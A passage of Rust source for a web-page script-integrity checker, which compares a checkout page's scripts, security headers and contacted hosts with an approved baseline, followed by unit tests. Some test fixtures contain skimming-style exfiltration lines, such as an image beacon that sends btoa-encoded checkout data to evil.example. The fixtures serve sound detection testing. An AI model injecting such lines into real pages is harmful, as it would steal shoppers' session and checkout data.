//! Compares a page's [`Inventory`] with its approved [`Baseline`] and lists every unapproved
//! change as a [`Finding`].
//!
//! Rules: a script whose identity is not approved is new; one with an approved identity but
//! another SHA-256 is altered; an approved script not seen is removed. Inline-like code
//! (inline, handler, eval, data) whose first statement was edited gets a new anchor and so a
//! new identity; such new/removed pairs in the same frame are matched back up by text
//! similarity and reported as one altered script. Security headers and contacted hosts are
//! checked too. Script changes are more severe on a payment page (one with card fields).
//! A finding's id hashes the page, kind, subject and current state, so the same unapproved
//! change keeps its id across rescans and can be tracked or acknowledged.

pub mod behaviour;
pub mod churn;
pub mod diff;
pub mod headers;
pub mod hints;
pub mod intel;
pub mod policy;
pub mod privacy;
pub mod violations;

use crate::inventory::normalize;
use crate::inventory::sha256_hex;
use crate::model::{
    ApprovedScript, Baseline, Finding, FindingKind, HeaderChange, Inventory, Script, ScriptKind, ScriptRef, Severity,
    SECURITY_HEADERS,
};
use headers as csp;

use similar::TextDiff;
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::time::{Duration, Instant};

/// Minimum text similarity for a new and a removed inline-like script to count as one edit.
const PAIR_MIN_RATIO: f32 = 0.5;
/// Longest URL or id shown in a title.
const TITLE_MAX_CHARS: usize = 200;
/// Time budget for one similarity diff: a pairing decision must not stall a scan on huge code.
const PAIR_DIFF_TIMEOUT: Duration = Duration::from_millis(200);

/// All findings for `page`, sorted by severity (most severe first), then kind, then id.
///
/// `approved_source` maps an approved SHA-256 to its source text when it is still stored; it
/// is used for diffs and for pairing edited inline code. Without it, altered scripts have no
/// diff and inline code edited at its start is reported as new + removed.
pub fn compare(
    page: &str,
    inv: &Inventory,
    baseline: &Baseline,
    approved_source: &dyn Fn(&str) -> Option<String>,
) -> Vec<Finding> {
    let mut findings = script_changes(page, inv, baseline, approved_source);
    findings.extend(header_changes(page, inv, baseline));
    findings.extend(host_changes(page, inv, baseline));
    crate::model::sort_findings(&mut findings);
    findings
}

/// New, altered and removed scripts.
fn script_changes(
    page: &str,
    inv: &Inventory,
    baseline: &Baseline,
    approved_source: &dyn Fn(&str) -> Option<String>,
) -> Vec<Finding> {
    let payment_page = !inv.payment_fields.is_empty();
    let script_severity = if payment_page { Severity::High } else { Severity::Medium };
    let mut findings = Vec::new();

    // Approved versions by identity. A baseline normally has one per id; accept several.
    let mut approved: BTreeMap<&str, Vec<&ApprovedScript>> = BTreeMap::new();
    for a in &baseline.scripts {
        approved.entry(a.id.as_str()).or_default().push(a);
    }
    // Approved identities accounted for by a current script (matched, or altered).
    let mut present: BTreeSet<&str> = BTreeSet::new();

    let mut new_scripts: Vec<&Script> = Vec::new();
    for script in &inv.scripts {
        if let Some(a) = approved_match(&baseline.scripts, script) {
            present.insert(a.id.as_str());
            continue;
        }
        match approved.get(script.id.as_str()) {
            None => new_scripts.push(script),
            Some(versions) => {
                present.insert(script.id.as_str());
                findings.push(altered(page, inv, script, versions[0], script_severity, approved_source));
            }
        }
    }
    // One removed finding per approved id, even if several versions were approved.
    let mut removed_ids: BTreeSet<&str> = BTreeSet::new();
    let removed: Vec<&ApprovedScript> = baseline
        .scripts
        .iter()
        .filter(|a| !present.contains(a.id.as_str()) && removed_ids.insert(a.id.as_str()))
        .collect();

    let (pairs, new_scripts, removed) = pair_edited_inline(new_scripts, removed, approved_source);
    for (script, old) in pairs {
        findings.push(altered(page, inv, script, old, script_severity, approved_source));
    }
    // On a page never approved everything is "new": list hints, but do not raise the whole
    // initial inventory to the next severity.
    let raise = !baseline.is_empty();
    findings.extend(new_scripts.into_iter().map(|script| new_script(page, inv, script, script_severity, raise)));
    findings.extend(removed.into_iter().map(|old| removed_script(page, inv, old)));
    findings
}

fn new_script(page: &str, inv: &Inventory, script: &Script, severity: Severity, raise: bool) -> Finding {
    let analysis = hints::analyze(None, &script.source);
    Finding {
        id: finding_id(page, FindingKind::NewScript, &script.id, &script.sha256),
        kind: FindingKind::NewScript,
        severity: if raise { raised(severity, &analysis.hints) } else { severity },
        hints: analysis.hints,
        added_hosts: analysis.added_hosts,
        added_urls: analysis.added_urls,
        title: format!(
            "New {} script {}",
            script.kind,
            describe(title_url(&script.url, script.kind), &script.id, &script.frame_url, inv)
        ),
        script: Some(script_ref(script)),
        initiator: script.initiator.clone(),
        ..Default::default()
    }
}

fn removed_script(page: &str, inv: &Inventory, old: &ApprovedScript) -> Finding {
    Finding {
        id: finding_id(page, FindingKind::RemovedScript, &old.id, &old.sha256),
        kind: FindingKind::RemovedScript,
        severity: Severity::Low,
        title: format!(
            "Removed {} script {}",
            old.kind,
            describe(title_url(&old.url, old.kind), &old.id, &old.frame_url, inv)
        ),
        script: Some(ScriptRef {
            id: old.id.clone(),
            kind: old.kind,
            url: old.url.clone(),
            sha256: old.sha256.clone(),
        }),
        approved_sha256: Some(old.sha256.clone()),
        ..Default::default()
    }
}

/// Hosts contacted that the baseline does not list.
fn host_changes(page: &str, inv: &Inventory, baseline: &Baseline) -> Vec<Finding> {
    // Baselines approved before hosts were written relative to the page list the page's own
    // host absolutely; it still counts as `self` when the page is on that host.
    let own_host = crate::inventory::host_of(if inv.final_url.is_empty() { &inv.url } else { &inv.final_url });
    let relative = |h: &'_ str| -> String {
        if Some(h) == own_host.as_deref() {
            crate::inventory::SELF_HOST.to_string()
        } else {
            h.to_string()
        }
    };
    let approved_hosts: BTreeSet<String> = baseline.hosts.iter().map(|h| relative(&h.host)).collect();
    inv.hosts
        .iter()
        .map(|h| relative(h))
        .filter(|host| !approved_hosts.contains(host))
        .map(|host| Finding {
            id: finding_id(page, FindingKind::NewHost, &host, ""),
            kind: FindingKind::NewHost,
            severity: Severity::Medium,
            title: if host == crate::inventory::SELF_HOST {
                "New host self (the page's own host)".to_string()
            } else {
                format!("New host {}", one_line(&host))
            },
            host: Some(host),
            ..Default::default()
        })
        .collect()
}

fn altered(
    page: &str,
    inv: &Inventory,
    script: &Script,
    old: &ApprovedScript,
    severity: Severity,
    approved_source: &dyn Fn(&str) -> Option<String>,
) -> Finding {
    let diff = approved_source(&old.sha256).map(|old_src| {
        diff::diff_scripts(
            &old_src,
            &script.source,
            &format!("approved {}", short(&old.sha256)),
            &format!("current {}", short(&script.sha256)),
        )
    });
    let renamed = if old.id != script.id { format!(", was {}", one_line(&old.id)) } else { String::new() };
    // Without the approved text nothing is known to be "added", so no hints.
    let analysis =
        approved_source(&old.sha256).map(|old_src| hints::analyze(Some(&old_src), &script.source)).unwrap_or_default();
    Finding {
        id: finding_id(page, FindingKind::AlteredScript, &script.id, &script.sha256),
        kind: FindingKind::AlteredScript,
        severity: raised(severity, &analysis.hints),
        hints: analysis.hints,
        added_hosts: analysis.added_hosts,
        added_urls: analysis.added_urls,
        title: format!(
            "Altered {} script {}{renamed}",
            script.kind,
            describe(title_url(&script.url, script.kind), &script.id, &script.frame_url, inv)
        ),
        script: Some(script_ref(script)),
        diff,
        header: None,
        host: None,
        approved_sha256: Some(old.sha256.clone()),
        initiator: script.initiator.clone(),
        ..Default::default()
    }
}

/// One severity step up when the added code has hints; never down.
fn raised(severity: Severity, hints: &[String]) -> Severity {
    if hints.is_empty() {
        return severity;
    }
    match severity {
        Severity::Info => Severity::Low,
        Severity::Low => Severity::Medium,
        Severity::Medium => Severity::High,
        Severity::High | Severity::Critical => Severity::Critical,
    }
}

/// `id` without a collision suffix (`#2`, `#3`, …).
fn collision_base(id: &str) -> &str {
    match id.rfind('#') {
        Some(i) if i + 1 < id.len() && id[i + 1..].bytes().all(|b| b.is_ascii_digit()) => &id[..i],
        _ => id,
    }
}

/// The approved version `script` is, if any: the same identity and SHA-256; or, among scripts
/// whose identities collided (`x`, `x#2`, … — numbered per load, so they may swap when the page
/// orders them differently), the same SHA-256; or, for inline code approved with a normalized
/// hash, the same code with other data literals (see `normalize`).
fn approved_match<'a>(approved: &'a [ApprovedScript], script: &Script) -> Option<&'a ApprovedScript> {
    if let Some(a) = approved.iter().find(|a| a.id == script.id && a.sha256 == script.sha256) {
        return Some(a);
    }
    let base = collision_base(&script.id);
    let group: Vec<&ApprovedScript> =
        approved.iter().filter(|a| a.kind == script.kind && collision_base(&a.id) == base).collect();
    if let Some(a) = group.iter().find(|a| a.sha256 == script.sha256) {
        return Some(a);
    }
    if group.iter().all(|a| a.normalized_sha256.is_none()) {
        return None;
    }
    let normalized = normalize::normalize_inline(script.kind, script.url.as_deref(), &script.source)?;
    // Prefer the script's own identity when several versions share the normalized hash.
    let same = |a: &&&ApprovedScript| a.normalized_sha256.as_deref() == Some(normalized.sha256.as_str());
    group.iter().filter(same).find(|a| a.id == script.id).or_else(|| group.iter().find(same)).copied()
}

/// Kinds whose identity depends on the code itself (anchor), so an edit can change it.
fn inline_like(kind: ScriptKind) -> bool {
    matches!(kind, ScriptKind::Inline | ScriptKind::Handler | ScriptKind::Eval | ScriptKind::Data)
}

/// The frame key of an inline-like identity: everything before the first `|`.
fn frame_of(id: &str) -> &str {
    id.split('|').next().unwrap_or(id)
}

type Pairing<'a> = (Vec<(&'a Script, &'a ApprovedScript)>, Vec<&'a Script>, Vec<&'a ApprovedScript>);

/// Matches new and removed inline-like scripts of the same kind in the same frame whose texts
/// are at least [`PAIR_MIN_RATIO`] similar, most similar pairs first. Returns the pairs and the
/// scripts left unpaired (in their input order).
fn pair_edited_inline<'a>(
    new_scripts: Vec<&'a Script>,
    removed: Vec<&'a ApprovedScript>,
    approved_source: &dyn Fn(&str) -> Option<String>,
) -> Pairing<'a> {
    let mut candidates: Vec<(f32, usize, usize)> = Vec::new();
    let mut sources: HashMap<usize, Option<String>> = HashMap::new();
    // New scripts come from the page, so their number is the attacker's: the whole pairing
    // has one time budget, and scripts too large to parse are not diffed either.
    let deadline = Instant::now() + crate::inventory::budget::PAIRING_TIME;
    let mut skipped = 0usize;
    for (ni, new) in new_scripts.iter().enumerate() {
        if !inline_like(new.kind) {
            continue;
        }
        for (ri, old) in removed.iter().enumerate() {
            if old.kind != new.kind || frame_of(&old.id) != frame_of(&new.id) {
                continue;
            }
            let Some(old_src) = sources.entry(ri).or_insert_with(|| approved_source(&old.sha256)) else {
                continue;
            };
            let too_large = old_src.len().max(new.source.len()) > crate::inventory::budget::MAX_ANALYSIS_BYTES;
            if too_large || Instant::now() >= deadline {
                skipped += 1;
                continue;
            }
            let ratio = similarity(old_src, &new.source);
            if ratio >= PAIR_MIN_RATIO {
                candidates.push((ratio, ni, ri));
            }
        }
    }
    if skipped > 0 {
        tracing::warn!(skipped, "edited inline scripts not compared (pairing over its size or time budget): they are reported as new and removed");
    }
    // Best first; index order breaks ties so the result does not depend on float noise.
    candidates.sort_by(|a, b| b.0.total_cmp(&a.0).then(a.1.cmp(&b.1)).then(a.2.cmp(&b.2)));
    let mut new_used = vec![false; new_scripts.len()];
    let mut removed_used = vec![false; removed.len()];
    let mut pairs = Vec::new();
    for (_, ni, ri) in candidates {
        if new_used[ni] || removed_used[ri] {
            continue;
        }
        new_used[ni] = true;
        removed_used[ri] = true;
        pairs.push((new_scripts[ni], removed[ri]));
    }
    let new_left = new_scripts.iter().zip(&new_used).filter(|(_, u)| !**u).map(|(s, _)| *s).collect();
    let removed_left = removed.iter().zip(&removed_used).filter(|(_, u)| !**u).map(|(s, _)| *s).collect();
    (pairs, new_left, removed_left)
}

/// Character-level similarity in 0..=1 (`similar`'s ratio: 2 × matches / total length).
fn similarity(a: &str, b: &str) -> f32 {
    let (la, lb) = (a.chars().count(), b.chars().count());
    if la + lb == 0 {
        return 1.0;
    }
    // The ratio can be at most 2·min/(a+b); skip the diff when that is already too low.
    if 2.0 * la.min(lb) as f32 / (la + lb) as f32 <= PAIR_MIN_RATIO {
        return 0.0;
    }
    TextDiff::configure().deadline(Instant::now() + PAIR_DIFF_TIMEOUT).diff_chars(a, b).ratio()
}

fn header_changes(page: &str, inv: &Inventory, baseline: &Baseline) -> Vec<Finding> {
    let approved: HashMap<&str, Option<&str>> =
        baseline.headers.iter().map(|h| (h.name.as_str(), h.value.as_deref())).collect();
    let mut out = Vec::new();
    for name in SECURITY_HEADERS {
        let old = approved.get(name).copied().flatten();
        let new = inv.headers.get(name).map(String::as_str);
        match (old, new) {
            (None, None) => continue,
            (Some(a), Some(b)) if normalise_header(a) == normalise_header(b) => continue,
            _ => {}
        }
        let verdict = csp::assess(name, old, new);
        let (what, severity) = (verdict.verb, verdict.severity);
        let detail = if old.is_some() && new.is_some() && !verdict.notes.is_empty() {
            format!(": {}", verdict.notes.join("; "))
        } else {
            String::new()
        };
        out.push(Finding {
            id: finding_id(page, FindingKind::HeaderChange, name, &new.map(normalise_header).unwrap_or_default()),
            kind: FindingKind::HeaderChange,
            severity,
            title: one_line(&format!("{} {what}{detail}", display_header(name))),
            hints: verdict.notes,
            script: None,
            diff: None,
            header: Some(HeaderChange {
                name: name.to_string(),
                approved: old.map(str::to_string),
                current: new.map(str::to_string),
            }),
            host: None,
            approved_sha256: None,
            initiator: None,
            ..Default::default()
        });
    }
    out
}

/// Header value as compared: surrounding whitespace trimmed and CSP nonces (`'nonce-…'`,
/// fresh on every response) masked, so a per-response nonce is not a change.
fn normalise_header(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    let mut rest = value.trim();
    while let Some(pos) = rest.find("'nonce-") {
        out.push_str(&rest[..pos]);
        out.push_str("'nonce-*'");
        let after = &rest[pos + "'nonce-".len()..];
        match after.find('\'') {
            Some(end) => rest = &after[end + 1..],
            None => {
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

/// `content-security-policy` → `Content-Security-Policy`.
fn display_header(name: &str) -> String {
    name.split('-')
        .map(|part| {
            let mut chars = part.chars();
            match chars.next() {
                Some(first) => first.to_ascii_uppercase().to_string() + chars.as_str(),
                None => String::new(),
            }
        })
        .collect::<Vec<_>>()
        .join("-")
}

/// `"F"` + first 12 hex of SHA-256 of `page \0 kind \0 subject \0 state`.
/// A finding's id: hashes page, kind, subject and current state, so the same unapproved
/// change keeps its id across rescans. The one place finding ids are made.
pub(crate) fn finding_id(page: &str, kind: FindingKind, subject: &str, state: &str) -> String {
    let digest = sha256_hex(&format!("{page}\0{}\0{subject}\0{state}", kind.as_str()));
    format!("F{}", &digest[..12])
}

fn script_ref(s: &Script) -> ScriptRef {
    ScriptRef { id: s.id.clone(), kind: s.kind, url: s.url.clone(), sha256: s.sha256.clone() }
}

/// The URL a title names a script by. `data:`/`blob:` URLs are long or random, so those (and
/// URL-less code) are named by identity instead.
fn title_url(url: &Option<String>, kind: ScriptKind) -> Option<&str> {
    match url {
        Some(u) if kind != ScriptKind::Data && !u.is_empty() => Some(u),
        _ => None,
    }
}

/// The script's name for a title, plus where it ran when that is not obvious.
fn describe(url: Option<&str>, id: &str, frame_url: &str, inv: &Inventory) -> String {
    match url {
        Some(u) => {
            let in_main = frame_url.is_empty() || frame_url == inv.final_url || frame_url == inv.url;
            if in_main {
                one_line(u)
            } else {
                format!("{} (frame {})", one_line(u), one_line(frame_url))
            }
        }
        // Identities of inline-like code start with their frame key.
        None if id.starts_with("main|") => format!("{} (main frame)", one_line(id)),
        None => format!("{} (frame {})", one_line(id), one_line(frame_url)),
    }
}

/// Titles are one line: control characters become spaces, long text is cut at 200 characters.
fn one_line(s: &str) -> String {
    crate::text::one_line(s, TITLE_MAX_CHARS)
}

fn short(sha: &str) -> &str {
    &sha[..sha.len().min(12)]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inventory::{sha256_hex, sri_sha384};
    use crate::model::{Approval, ApprovedHeader, ApprovedHost, PaymentField};

    const PAGE_URL: &str = "https://shop.example/checkout";

    fn script(id: &str, kind: ScriptKind, url: Option<&str>, source: &str) -> Script {
        Script {
            id: id.to_string(),
            kind,
            url: url.map(str::to_string),
            frame_url: PAGE_URL.to_string(),
            sha256: sha256_hex(source),
            sri: sri_sha384(source),
            bytes: source.len() as u64,
            initiator: None,
            source: source.to_string(),
        }
    }

    fn approval() -> Approval {
        Approval { approved_by: "alice".into(), approved_at: "2025-01-01T00:00:00Z".into(), reason: "reviewed".into() }
    }

    fn approve(s: &Script) -> ApprovedScript {
        ApprovedScript {
            id: s.id.clone(),
            kind: s.kind,
            url: s.url.clone(),
            frame_url: s.frame_url.clone(),
            sha256: s.sha256.clone(),
            sri: s.sri.clone(),
            bytes: s.bytes,
            approval: approval(),
            normalized_sha256: normalize::normalize_inline(s.kind, s.url.as_deref(), &s.source).map(|n| n.sha256),
            masked: None,
        }
    }

    fn inventory(scripts: Vec<Script>) -> Inventory {
        Inventory {
            cookies: Default::default(),
            url: PAGE_URL.into(),
            final_url: PAGE_URL.into(),
            status: 200,
            headers: BTreeMap::new(),
            scripts,
            hosts: vec!["shop.example".into()],
            payment_fields: vec![],
        }
    }

    /// Baseline approving exactly what `inv` shows.
    fn baseline_of(inv: &Inventory) -> Baseline {
        Baseline {
            page: "checkout".into(),
            url: PAGE_URL.into(),
            scripts: inv.scripts.iter().map(approve).collect(),
            headers: SECURITY_HEADERS
                .iter()
                .map(|n| ApprovedHeader {
                    name: n.to_string(),
                    value: inv.headers.get(*n).cloned(),
                    approval: approval(),
                })
                .collect(),
            hosts: inv.hosts.iter().map(|h| ApprovedHost { host: h.clone(), approval: approval() }).collect(),
            ..Default::default()
        }
    }

    /// `approved_source` backed by the given texts.
    fn sources(texts: &[&str]) -> impl Fn(&str) -> Option<String> {
        let map: HashMap<String, String> = texts.iter().map(|t| (sha256_hex(t), t.to_string())).collect();
        move |sha: &str| map.get(sha).cloned()
    }

    fn no_sources(_: &str) -> Option<String> {
        None
    }

    fn app() -> Script {
        script("self:/app.js", ScriptKind::External, Some("https://shop.example/app.js"), "var a=1;init(a);")
    }

    #[test]
    fn clean_when_equal() {
        let mut inv = inventory(vec![app()]);
        inv.headers.insert("content-security-policy".into(), "script-src 'self'".into());
        let base = baseline_of(&inv);
        assert!(compare("checkout", &inv, &base, &no_sources).is_empty());
    }

    #[test]
    fn new_script_is_medium_or_high_on_payment_page() {
        let base = baseline_of(&inventory(vec![app()]));
        let mut evil =
            script("https://evil.example/x.js", ScriptKind::External, Some("https://evil.example/x.js"), "steal()");
        evil.initiator = Some("https://shop.example/app.js".into());
        let mut inv = inventory(vec![app(), evil]);
        let f = compare("checkout", &inv, &base, &no_sources);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].kind, FindingKind::NewScript);
        assert_eq!(f[0].severity, Severity::Medium);
        assert_eq!(f[0].title, "New external script https://evil.example/x.js");
        assert_eq!(f[0].script.as_ref().unwrap().id, "https://evil.example/x.js");
        assert_eq!(f[0].initiator.as_deref(), Some("https://shop.example/app.js"));
        assert!(f[0].id.starts_with('F') && f[0].id.len() == 13);

        inv.payment_fields.push(PaymentField {
            frame_url: PAGE_URL.into(),
            selector: "#cc".into(),
            reason: "autocomplete=cc-number".into(),
        });
        let f = compare("checkout", &inv, &base, &no_sources);
        assert_eq!(f[0].severity, Severity::High);
    }

    #[test]
    fn altered_script_has_diff_when_source_known() {
        let old = app();
        let base = baseline_of(&inventory(vec![old.clone()]));
        let new = script(
            "self:/app.js",
            ScriptKind::External,
            Some("https://shop.example/app.js"),
            "var a=1;init(a);fetch('https://evil.example/c');",
        );
        let inv = inventory(vec![new.clone()]);
        let f = compare("checkout", &inv, &base, &sources(&[&old.source]));
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].kind, FindingKind::AlteredScript);
        assert_eq!(f[0].severity, Severity::Medium);
        assert_eq!(f[0].approved_sha256.as_deref(), Some(old.sha256.as_str()));
        assert_eq!(f[0].script.as_ref().unwrap().sha256, new.sha256);
        assert_eq!(f[0].title, "Altered external script https://shop.example/app.js");
        let diff = f[0].diff.as_deref().unwrap();
        assert!(diff.contains(&format!("--- approved {}", &old.sha256[..12])), "{diff}");
        assert!(diff.lines().any(|l| l.starts_with('+') && l.contains("evil.example")), "{diff}");

        let f = compare("checkout", &inv, &base, &no_sources);
        assert_eq!(f[0].kind, FindingKind::AlteredScript);
        assert!(f[0].diff.is_none());
    }

    #[test]
    fn removed_script_is_low() {
        let base = baseline_of(&inventory(vec![app()]));
        let inv = inventory(vec![]);
        let f = compare("checkout", &inv, &base, &no_sources);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].kind, FindingKind::RemovedScript);
        assert_eq!(f[0].severity, Severity::Low);
        assert_eq!(f[0].approved_sha256.as_deref(), Some(app().sha256.as_str()));
        assert_eq!(f[0].script.as_ref().unwrap().id, "self:/app.js");
    }

    #[test]
    fn header_changes_removed_changed_added() {
        let mut old = inventory(vec![]);
        old.headers.insert("content-security-policy".into(), "script-src 'self'".into());
        old.headers.insert("x-frame-options".into(), "DENY".into());
        let base = baseline_of(&old);
        let mut inv = inventory(vec![]);
        inv.headers.insert("x-frame-options".into(), "SAMEORIGIN".into());
        inv.headers.insert("referrer-policy".into(), "no-referrer".into());
        let f = compare("checkout", &inv, &base, &no_sources);
        let titles: Vec<(&str, Severity)> = f.iter().map(|x| (x.title.as_str(), x.severity)).collect();
        assert_eq!(f.len(), 3, "{titles:?}");
        assert!(titles.contains(&("Content-Security-Policy removed", Severity::Medium)));
        assert!(titles.contains(&("X-Frame-Options changed", Severity::Medium)));
        assert!(titles.contains(&("Referrer-Policy added", Severity::Low)));
        let xfo = f.iter().find(|x| x.title.starts_with("X-Frame")).unwrap();
        assert_eq!(
            xfo.header,
            Some(HeaderChange {
                name: "x-frame-options".into(),
                approved: Some("DENY".into()),
                current: Some("SAMEORIGIN".into())
            })
        );
        // Sorted: medium before low.
        assert_eq!(f[2].severity, Severity::Low);
    }

    #[test]
    fn csp_nonce_is_not_a_change() {
        let mut old = inventory(vec![]);
        old.headers.insert("content-security-policy".into(), "script-src 'nonce-abc123' 'self'".into());
        let base = baseline_of(&old);
        let mut inv = inventory(vec![]);
        inv.headers.insert("content-security-policy".into(), "script-src 'nonce-zz99' 'self'".into());
        assert!(compare("checkout", &inv, &base, &no_sources).is_empty());
        inv.headers
            .insert("content-security-policy".into(), "script-src 'nonce-zz99' 'self' https://evil.example".into());
        assert_eq!(compare("checkout", &inv, &base, &no_sources).len(), 1);
    }

    #[test]
    fn new_host_is_medium() {
        let base = baseline_of(&inventory(vec![]));
        let mut inv = inventory(vec![]);
        inv.hosts.push("evil.example:8443".into());
        let f = compare("checkout", &inv, &base, &no_sources);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].kind, FindingKind::NewHost);
        assert_eq!(f[0].severity, Severity::Medium);
        assert_eq!(f[0].host.as_deref(), Some("evil.example:8443"));
        assert_eq!(f[0].title, "New host evil.example:8443");
    }

    #[test]
    fn own_host_approved_absolutely_still_matches_self() {
        // A baseline approved before hosts were written relative lists `shop.example`.
        let base = baseline_of(&inventory(vec![]));
        let mut inv = inventory(vec![]);
        inv.hosts = vec![crate::inventory::SELF_HOST.into()];
        assert_eq!(compare("checkout", &inv, &base, &no_sources), vec![]);
        // On another origin that old entry does not cover `self`.
        inv.final_url = "https://staging.example/checkout".into();
        let f = compare("checkout", &inv, &base, &no_sources);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].host.as_deref(), Some("self"));
    }

    #[test]
    fn ids_are_stable_across_rescans_and_differ_by_page_and_state() {
        let base = baseline_of(&inventory(vec![app()]));
        let evil =
            script("https://evil.example/x.js", ScriptKind::External, Some("https://evil.example/x.js"), "steal()");
        let mut inv = inventory(vec![app(), evil]);
        inv.hosts.push("evil.example".into());
        let a = compare("checkout", &inv, &base, &no_sources);
        let b = compare("checkout", &inv.clone(), &base.clone(), &no_sources);
        assert_eq!(a.len(), 2);
        assert_eq!(a.iter().map(|f| &f.id).collect::<Vec<_>>(), b.iter().map(|f| &f.id).collect::<Vec<_>>());
        let other_page = compare("cart", &inv, &base, &no_sources);
        assert_ne!(a[0].id, other_page[0].id);
        // The same script with other content is another change, so another id.
        inv.scripts[1] =
            script("https://evil.example/x.js", ScriptKind::External, Some("https://evil.example/x.js"), "steal(2)");
        let c = compare("checkout", &inv, &base, &no_sources);
        let new_a = a.iter().find(|f| f.kind == FindingKind::NewScript).unwrap();
        let new_c = c.iter().find(|f| f.kind == FindingKind::NewScript).unwrap();
        assert_ne!(new_a.id, new_c.id);
    }

    #[test]
    fn edited_inline_script_is_paired_as_altered() {
        let old_src = "var cfg={key:'pk_1',amount:10};initCheckout(cfg);trackPage('checkout');";
        let new_src = "var s=document.createElement('script');var cfg={key:'pk_1',amount:10};initCheckout(cfg);trackPage('checkout');";
        let unrelated = "(function(){console.log('totally different code here')})()";
        let old = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, old_src);
        let base = baseline_of(&inventory(vec![old.clone()]));
        let inv = inventory(vec![
            script("main|inline|bbbbbbbbbb", ScriptKind::Inline, None, new_src),
            script("main|inline|cccccccccc", ScriptKind::Inline, None, unrelated),
        ]);
        let f = compare("checkout", &inv, &base, &sources(&[old_src]));
        let kinds: Vec<(FindingKind, &str)> =
            f.iter().map(|x| (x.kind, x.script.as_ref().unwrap().id.as_str())).collect();
        // Same severity, so ordered by kind: new_script before altered_script.
        assert_eq!(
            kinds,
            [
                (FindingKind::NewScript, "main|inline|cccccccccc"),
                (FindingKind::AlteredScript, "main|inline|bbbbbbbbbb")
            ]
        );
        let alt = &f[1];
        assert_eq!(alt.approved_sha256.as_deref(), Some(old.sha256.as_str()));
        assert_eq!(alt.title, "Altered inline script main|inline|bbbbbbbbbb (main frame), was main|inline|aaaaaaaaaa");
        assert!(alt.diff.as_deref().unwrap().contains("+var s = document.createElement"), "{:?}", alt.diff);

        // Without the approved source there is nothing to compare: new + removed.
        let f = compare("checkout", &inv, &base, &no_sources);
        let kinds: Vec<FindingKind> = f.iter().map(|x| x.kind).collect();
        assert_eq!(kinds, [FindingKind::NewScript, FindingKind::NewScript, FindingKind::RemovedScript]);
    }

    #[test]
    fn inline_in_other_frame_is_not_paired() {
        let src = "var cfg={key:'pk_1',amount:10};initCheckout(cfg);trackPage('checkout');";
        let old = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, src);
        let base = baseline_of(&inventory(vec![old]));
        let mut moved = script("https://pay.example/f|inline|aaaaaaaaaa", ScriptKind::Inline, None, src);
        moved.frame_url = "https://pay.example/f".into();
        let inv = inventory(vec![moved]);
        let f = compare("checkout", &inv, &base, &sources(&[src]));
        assert_eq!(f.iter().map(|x| x.kind).collect::<Vec<_>>(), [FindingKind::NewScript, FindingKind::RemovedScript]);
        assert_eq!(
            f[0].title,
            "New inline script https://pay.example/f|inline|aaaaaaaaaa (frame https://pay.example/f)"
        );
    }

    #[test]
    fn empty_baseline_reports_everything_as_new() {
        let mut inv = inventory(vec![app()]);
        inv.headers.insert("strict-transport-security".into(), "max-age=63072000".into());
        let f = compare("checkout", &inv, &Baseline::default(), &no_sources);
        let kinds: Vec<FindingKind> = f.iter().map(|x| x.kind).collect();
        assert_eq!(kinds, [FindingKind::NewScript, FindingKind::NewHost, FindingKind::HeaderChange]);
    }

    #[test]
    fn titles_are_one_line_and_bounded() {
        let long = format!("https://evil.example/{}\n.js", "a".repeat(400));
        let s = script(&long, ScriptKind::External, Some(&long), "x");
        let f = compare("checkout", &inventory(vec![s]), &Baseline::default(), &no_sources);
        let title = &f.iter().find(|x| x.kind == FindingKind::NewScript).unwrap().title;
        assert!(!title.contains('\n'));
        assert!(title.chars().count() < 240, "{}", title.len());
    }

    const VOLATILE: &str = "window.checkout = {csrf: 'c2VjcmV0LTE3MDA=', session: 'sess_8f2a9c41b7', ts: 1718000000123, endpoint: 'https://api.shop.example/v1/orders', cart: {items: [{sku: 'HP-1', qty: 1}]}}; Checkout.init(window.checkout);";

    fn volatile_variant(csrf: &str, ts: &str) -> String {
        VOLATILE.replace("c2VjcmV0LTE3MDA=", csrf).replace("1718000000123", ts).replace("qty: 1", "qty: 4")
    }

    #[test]
    fn inline_script_differing_only_in_data_is_the_approved_script() {
        let old = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, VOLATILE);
        let base = baseline_of(&inventory(vec![old.clone()]));
        assert!(base.scripts[0].normalized_sha256.is_some());
        let now =
            script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, &volatile_variant("ZZZZ-999", "1718999999999"));
        assert!(compare("checkout", &inventory(vec![now]), &base, &sources(&[VOLATILE])).is_empty());

        // ...but not a changed host, an appended statement or a new call.
        for changed in [
            volatile_variant("ZZZZ", "1").replace("api.shop.example", "api.shop-example.co"),
            format!(
                "{}new Image().src = 'https://evil.example/c?d=' + btoa(JSON.stringify(window.checkout));",
                volatile_variant("Z", "2")
            ),
            volatile_variant("Z", "3")
                .replace("Checkout.init(window.checkout);", "send(window.checkout); Checkout.init(window.checkout);"),
        ] {
            let now = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, &changed);
            let f = compare("checkout", &inventory(vec![now]), &base, &sources(&[VOLATILE]));
            assert_eq!(f.iter().map(|x| x.kind).collect::<Vec<_>>(), [FindingKind::AlteredScript], "{changed}");
        }
    }

    #[test]
    fn colliding_identities_swapped_by_document_order_are_not_a_change() {
        let a = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, "one();");
        let b = script("main|inline|aaaaaaaaaa#2", ScriptKind::Inline, None, "two();");
        let base = baseline_of(&inventory(vec![a.clone(), b.clone()]));
        let swapped = vec![
            Script { id: "main|inline|aaaaaaaaaa".into(), ..b.clone() },
            Script { id: "main|inline|aaaaaaaaaa#2".into(), ..a.clone() },
        ];
        assert!(compare("checkout", &inventory(swapped), &base, &no_sources).is_empty());
        // One of them gone is still a removal.
        let one = vec![Script { id: "main|inline|aaaaaaaaaa".into(), ..b }];
        let f = compare("checkout", &inventory(one), &base, &no_sources);
        assert_eq!(
            f.iter().map(|x| (x.kind, x.script.as_ref().unwrap().id.as_str())).collect::<Vec<_>>(),
